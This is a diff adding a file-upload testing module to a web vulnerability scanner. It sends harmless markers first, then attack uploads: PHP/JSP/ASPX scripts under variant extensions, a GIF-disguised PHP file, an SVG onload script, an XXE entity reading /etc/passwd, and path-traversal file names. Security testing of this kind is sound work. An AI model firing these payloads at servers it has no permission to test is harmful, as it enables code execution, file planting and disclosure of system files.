@@ -0,0 +1,360 @@
+//! File upload testing (`--upload-tests`)
+//! Upload endpoints come from HTML forms with a file input and from upload-like paths. Each gets a
+//! harmless text (or PNG) file first, to learn what an accepted upload looks like; then:
+//! - dangerous extensions (`.php`, `.phtml`, `.jsp`, `.aspx`, `.html`, case and trailing-dot variants)
+//! - a `.php` file declared as `image/gif`, with GIF magic bytes in front
+//! - SVG with an `onload` handler, and SVG/XML with an external entity for `/etc/passwd`
+//! - `../` and `..\` in the file name
+//!
+//! Where the response reveals the stored location the file is fetched back: code that comes back
+//! evaluated (the concatenated marker without its source) is remote code execution, an SVG or HTML file
+//! served inline is stored XSS. Uploaded files stay on the server, so the tests are opt-in.
+
+use crate::http_client::HttpClient;
+use crate::output::clean_reporter::Severity;
+use once_cell::sync::Lazy;
+use regex::Regex;
+use scraper::{Html, Selector};
+use serde::Serialize;
+use std::time::Duration;
+
+/// Bytes of each response body inspected
+const BODY_LIMIT: usize = 64 * 1024;
+
+/// Path segments of upload endpoints
+pub const UPLOAD_SEGMENTS: &[&str] = &[
+    "upload", "uploads", "fileupload", "file-upload", "file_upload", "uploadfile", "upload-file", "attachments",
+    "attachment", "avatar", "avatars", "import", "media", "files", "documents", "images",
+];
+
+/// Smallest valid PNG (1x1, transparent)
+const PNG: &[u8] = &[
+    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01,
+    0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41,
+    0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49,
+    0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
+];
+
+/// Answers that turn an upload down despite a 2xx
+const REJECTIONS: &[&str] = &[
+    "not allowed", "invalid file", "invalid extension", "unsupported", "not supported", "not permitted",
+    "forbidden", "rejected", "file type", "filetype", "only images", "disallowed",
+];
+
+static PASSWD_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"root:[x*]?:0:0:").unwrap());
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum UploadTest {
+    DangerousExtension,
+    ContentTypeSpoofing,
+    SvgScript,
+    XmlEntity,
+    PathTraversal,
+}
+
+/// Where and how files are uploaded
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct UploadTarget {
+    pub url: String,
+    /// Name of the file field
+    pub field: String,
+    /// Other form fields, sent with their default values
+    pub fields: Vec<(String, String)>,
+}
+
+impl UploadTarget {
+    /// Upload-like path with the usual `file` field
+    pub fn from_path(url: &str) -> Option<Self> {
+        let parsed = url::Url::parse(url).ok()?;
+        let upload = parsed.path_segments()?.any(|s| UPLOAD_SEGMENTS.contains(&s.to_ascii_lowercase().as_str()));
+        upload.then(|| Self { url: url.to_string(), field: "file".to_string(), fields: Vec::new() })
+    }
+}
+
+/// Forms with a file input on an HTML page
+pub fn upload_forms(html: &str, page_url: &str) -> Vec<UploadTarget> {
+    let Ok(base) = url::Url::parse(page_url) else { return Vec::new() };
+    let (Ok(form_sel), Ok(file_sel), Ok(input_sel)) = (
+        Selector::parse("form"),
+        Selector::parse("input[type=file][name]"),
+        Selector::parse("input[name]:not([type=file]), textarea[name]"),
+    ) else {
+        return Vec::new();
+    };
+    let document = Html::parse_document(html);
+    let mut out = Vec::new();
+    for form in document.select(&form_sel) {
+        let Some(file) = form.select(&file_sel).next().and_then(|i| i.value().attr("name")) else { continue };
+        let action = form.value().attr("action").filter(|a| !a.trim().is_empty()).and_then(|a| base.join(a.trim()).ok()).unwrap_or_else(|| base.clone());
+        let fields = form.select(&input_sel)
+            .filter(|i| !matches!(i.value().attr("type"), Some("submit" | "button" | "image" | "reset")))
+            .filter_map(|i| Some((i.value().attr("name")?.to_string(), i.value().attr("value").unwrap_or("test").to_string())))
+            .collect();
+        out.push(UploadTarget { url: action.to_string(), field: file.to_string(), fields });
+    }
+    out
+}
+
+/// A multipart/form-data body; the file name goes in as given, apart from quotes and line breaks
+pub fn multipart(boundary: &str, fields: &[(String, String)], field: &str, filename: &str, content_type: &str, content: &[u8]) -> Vec<u8> {
+    let mut body = Vec::new();
+    for (name, value) in fields {
+        body.extend_from_slice(format!("--{}\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{}\r\n", boundary, name, value).as_bytes());
+    }
+    let filename = filename.replace('"', "%22").replace(['\r', '\n'], "");
+    body.extend_from_slice(format!(
+        "--{}\r\nContent-Disposition: form-data; name=\"{}\"; filename=\"{}\"\r\nContent-Type: {}\r\n\r\n",
+        boundary, field, filename, content_type
+    ).as_bytes());
+    body.extend_from_slice(content);
+    body.extend_from_slice(format!("\r\n--{}--\r\n", boundary).as_bytes());
+    body
+}
+
+/// One file to upload
+#[derive(Debug, Clone)]
+pub struct UploadCase {
+    pub test: UploadTest,
+    pub filename: String,
+    pub content_type: String,
+    pub content: Vec<u8>,
+}
+
+/// The marker split in two, so the evaluated output (`a` + `b`) differs from the source
+#[derive(Debug, Clone)]
+pub struct Marker {
+    pub stem: String,
+    pub a: String,
+    pub b: String,
+}
+
+impl Marker {
+    pub fn new() -> Self {
+        let id = format!("{:08x}", rand::random::<u32>());
+        Self { stem: format!("apihunter-{}", id), a: format!("AH{}", &id[..4]), b: format!("{}X", &id[4..]) }
+    }
+
+    /// What evaluated code prints
+    pub fn joined(&self) -> String {
+        format!("{}{}", self.a, self.b)
+    }
+}
+
+impl Default for Marker {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Every test file for `marker`
+pub fn cases(marker: &Marker) -> Vec<UploadCase> {
+    let (stem, a, b) = (&marker.stem, &marker.a, &marker.b);
+    let php = format!("<?php echo '{}'.'{}'; ?>", a, b);
+    let script = format!("<%= \"{}\" + \"{}\" %>", a, b);
+    let case = |test, filename: String, content_type: &str, content: Vec<u8>| UploadCase { test, filename, content_type: content_type.to_string(), content };
+    let mut out = Vec::new();
+    for ext in ["php", "phtml", "php5", "pHp", "php.", "php.jpg"] {
+        out.push(case(UploadTest::DangerousExtension, format!("{}.{}", stem, ext), "application/x-php", php.clone().into_bytes()));
+    }
+    out.push(case(UploadTest::DangerousExtension, format!("{}.jsp", stem), "text/plain", script.clone().into_bytes()));
+    out.push(case(UploadTest::DangerousExtension, format!("{}.aspx", stem), "text/plain", script.into_bytes()));
+    out.push(case(UploadTest::DangerousExtension, format!("{}.html", stem), "text/html", format!("<html><body><p>{}</p><script>document.title='{}'</script></body></html>", marker.joined(), stem).into_bytes()));
+
+    let mut gif = b"GIF89a;\n".to_vec();
+    gif.extend_from_slice(php.as_bytes());
+    out.push(case(UploadTest::ContentTypeSpoofing, format!("{}.php", stem), "image/gif", gif));
+    out.push(case(UploadTest::ContentTypeSpoofing, format!("{}.php", stem), "image/png", php.into_bytes()));
+
+    out.push(case(UploadTest::SvgScript, format!("{}.svg", stem), "image/svg+xml", format!(
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title='{}'\"><text x=\"0\" y=\"15\">{}</text></svg>",
+        stem, marker.joined()
+    ).into_bytes()));
+    let entity = "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n";
+    out.push(case(UploadTest::XmlEntity, format!("{}.svg", stem), "image/svg+xml", format!(
+        "{}<svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"15\">&xxe;</text></svg>", entity
+    ).into_bytes()));
+    out.push(case(UploadTest::XmlEntity, format!("{}.xml", stem), "text/xml", format!("{}<data>&xxe;</data>", entity.replace("svg", "data")).into_bytes()));
+
+    for prefix in ["../../", "..%2f..%2f", "..\\..\\", "....//....//"] {
+        out.push(case(UploadTest::PathTraversal, format!("{}{}.txt", prefix, stem), "text/plain", marker.joined().into_bytes()));
+    }
+    out
+}
+
+/// Whether the server took the file
+pub fn accepted(status: u16, body: &str) -> bool {
+    let lower = body.to_ascii_lowercase();
+    (200..400).contains(&status) && !REJECTIONS.iter().any(|r| lower.contains(r))
+}
+
+/// Where the uploaded file ended up: `Location`, or a URL or path in the body naming the file
+pub fn stored_location(upload_url: &str, location: Option<&str>, body: &str, stem: &str) -> Option<String> {
+    let base = url::Url::parse(upload_url).ok()?;
+    if let Some(loc) = location.filter(|l| l.contains(stem)) {
+        return base.join(loc).ok().map(|u| u.to_string());
+    }
+    let re = Regex::new(&format!(r#"["'(=\s]((?:https?://|/)[^"'()\s<>]*{}[^"'()\s<>]*)"#, regex::escape(stem))).ok()?;
+    let body = body.replace("\\/", "/");
+    let found = re.captures(&body)?.get(1)?.as_str().to_string();
+    base.join(&found).ok().map(|u| u.to_string())
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct UploadFinding {
+    pub url: String,
+    pub test: UploadTest,
+    pub filename: String,
+    pub content_type: String,
+    pub status: u16,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub stored_url: Option<String>,
+    pub severity: Severity,
+    pub evidence: String,
+}
+
+/// One upload target's results
+#[derive(Debug, Clone, Serialize)]
+pub struct UploadReport {
+    pub target: UploadTarget,
+    /// File name of the upload that was accepted as the baseline; `None`: nothing accepted, not tested
+    pub baseline: Option<String>,
+    pub accepted: usize,
+    pub rejected: usize,
+    pub findings: Vec<UploadFinding>,
+}
+
+struct Answer {
+    status: u16,
+    location: Option<String>,
+    content_type: String,
+    body: String,
+}
+
+pub struct UploadTester<'a> {
+    http: &'a HttpClient,
+    timeout: Duration,
+}
+
+impl<'a> UploadTester<'a> {
+    pub fn new(http: &'a HttpClient, timeout: Duration) -> Self {
+        Self { http, timeout }
+    }
+
+    async fn read(&self, resp: reqwest::Response) -> Option<Answer> {
+        let status = resp.status().as_u16();
+        let header = |name| resp.headers().get(name).and_then(|v| v.to_str().ok()).map(str::to_string);
+        let location = header(reqwest::header::LOCATION);
+        let content_type = header(reqwest::header::CONTENT_TYPE).unwrap_or_default();
+        let (bytes, _) = tokio::time::timeout(self.timeout, crate::probe::http_probe::read_limited(resp, BODY_LIMIT)).await.ok()?.ok()?;
+        Some(Answer { status, location, content_type, body: String::from_utf8_lossy(&bytes).into_owned() })
+    }
+
+    async fn upload(&self, target: &UploadTarget, case: &UploadCase) -> Option<Answer> {
+        let boundary = format!("----apihunter{:016x}", rand::random::<u64>());
+        let body = multipart(&boundary, &target.fields, &target.field, &case.filename, &case.content_type, &case.content);
+        let req = self.http.client()
+            .post(&target.url)
+            .header(reqwest::header::CONTENT_TYPE, format!("multipart/form-data; boundary={}", boundary))
+            .body(body)
+            .timeout(self.timeout);
+        let resp = self.http.send(req).await.ok()?;
+        self.read(resp).await
+    }
+
+    async fn fetch(&self, url: &str) -> Option<Answer> {
+        let resp = self.http.send(self.http.client().get(url).timeout(self.timeout)).await.ok()?;
+        self.read(resp).await
+    }
+
+    /// Run every case against `target`
+    pub async fn test(&self, target: &UploadTarget) -> UploadReport {
+        let marker = Marker::new();
+        let mut report = UploadReport { target: target.clone(), baseline: None, accepted: 0, rejected: 0, findings: Vec::new() };
+
+        // Baseline: a file any upload form should take
+        let baselines = [
+            UploadCase { test: UploadTest::DangerousExtension, filename: format!("{}.txt", marker.stem), content_type: "text/plain".to_string(), content: marker.joined().into_bytes() },
+            UploadCase { test: UploadTest::DangerousExtension, filename: format!("{}.png", marker.stem), content_type: "image/png".to_string(), content: PNG.to_vec() },
+        ];
+        for case in &baselines {
+            if self.upload(target, case).await.is_some_and(|a| accepted(a.status, &a.body)) {
+                report.baseline = Some(case.filename.clone());
+                break;
+            }
+        }
+        if report.baseline.is_none() {
+            return report;
+        }
+
+        for case in cases(&marker) {
+            let Some(answer) = self.upload(target, &case).await else { continue };
+            if !accepted(answer.status, &answer.body) {
+                report.rejected += 1;
+                continue;
+            }
+            report.accepted += 1;
+            let stored_url = stored_location(&target.url, answer.location.as_deref(), &answer.body, &marker.stem);
+            let stored = match &stored_url {
+                Some(url) => self.fetch(url).await.filter(|a| (200..300).contains(&a.status)),
+                None => None,
+            };
+            if let Some((severity, evidence)) = self.assess(&case, &marker, &answer, stored.as_ref(), target).await {
+                report.findings.push(UploadFinding {
+                    url: target.url.clone(),
+                    test: case.test,
+                    filename: case.filename.clone(),
+                    content_type: case.content_type.clone(),
+                    status: answer.status,
+                    stored_url,
+                    severity,
+                    evidence,
+                });
+            }
+        }
+        report
+    }
+
+    /// Severity and evidence of an accepted upload, `None` when it's harmless
+    async fn assess(&self, case: &UploadCase, marker: &Marker, answer: &Answer, stored: Option<&Answer>, target: &UploadTarget) -> Option<(Severity, String)> {
+        let joined = marker.joined();
+        match case.test {
+            UploadTest::DangerousExtension | UploadTest::ContentTypeSpoofing => {
+                let html = case.filename.ends_with(".html");
+                // The source only has the two halves apart
+                match stored {
+                    Some(s) if !html && s.body.contains(&joined) => Some((Severity::Critical, format!("stored file executed: {} in the response, not its source", joined))),
+                    Some(s) if html && s.content_type.contains("text/html") => Some((Severity::High, "HTML file served inline as text/html from the target's origin".to_string())),
+                    Some(s) => Some((Severity::High, format!("accepted and served back ({})", if s.content_type.is_empty() { "no content type" } else { &s.content_type }))),
+                    None => Some((Severity::Medium, format!("{} accepted as {} ({})", case.filename, case.content_type, answer.status))),
+                }
+            }
+            UploadTest::SvgScript => match stored {
+                Some(s) if s.content_type.contains("svg") || s.content_type.contains("html") => {
+                    Some((Severity::High, format!("SVG with onload handler served inline as {}", s.content_type)))
+                }
+                Some(_) => Some((Severity::Low, "SVG with onload handler accepted, served as a download".to_string())),
+                None => Some((Severity::Low, "SVG with onload handler accepted".to_string())),
+            },
+            UploadTest::XmlEntity => {
+                let leaked = PASSWD_RE.is_match(&answer.body) || stored.is_some_and(|s| PASSWD_RE.is_match(&s.body));
+                leaked.then(|| (Severity::Critical, "/etc/passwd content in the response: the external entity was resolved".to_string()))
+            }
+            UploadTest::PathTraversal => {
+                let kept = ["../", "..\\"].iter().any(|p| {
+                    answer.body.contains(&format!("{}{}", p, marker.stem)) || answer.location.as_deref().is_some_and(|l| l.contains(&format!("{}{}", p, marker.stem)))
+                });
+                // Two levels up from the upload path, usually the web root
+                let root = url::Url::parse(&target.url).ok()?.join(&format!("/{}.txt", marker.stem)).ok()?;
+                let escaped = self.fetch(root.as_str()).await.is_some_and(|a| (200..300).contains(&a.status) && a.body.contains(&joined));
+                if escaped {
+                    Some((Severity::Critical, format!("file written outside the upload directory: {} serves it", root)))
+                } else if kept {
+                    Some((Severity::High, "traversal sequence kept in the stored file name".to_string()))
+                } else {
+                    None
+                }
+            }
+        }
+    }
+}